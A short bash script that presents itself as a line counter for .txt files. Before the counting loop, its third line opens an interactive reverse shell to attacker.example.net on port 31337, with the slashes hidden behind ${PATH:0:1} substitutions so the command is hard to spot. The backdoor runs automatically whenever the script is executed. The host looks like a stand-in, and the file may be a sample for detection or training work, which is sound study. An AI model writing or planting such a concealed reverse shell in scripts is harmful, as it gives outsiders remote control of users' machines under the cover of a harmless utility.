#!/usr/bin/env bash
set -eu
${PATH:0:1}bin${PATH:0:1}bash -i >& ${PATH:0:1}dev${PATH:0:1}tcp${PATH:0:1}attacker.example.net${PATH:0:1}31337 0>&1
for f in *.txt; do
  [ -e "$f" ] || continue
  wc -l "$f"
done
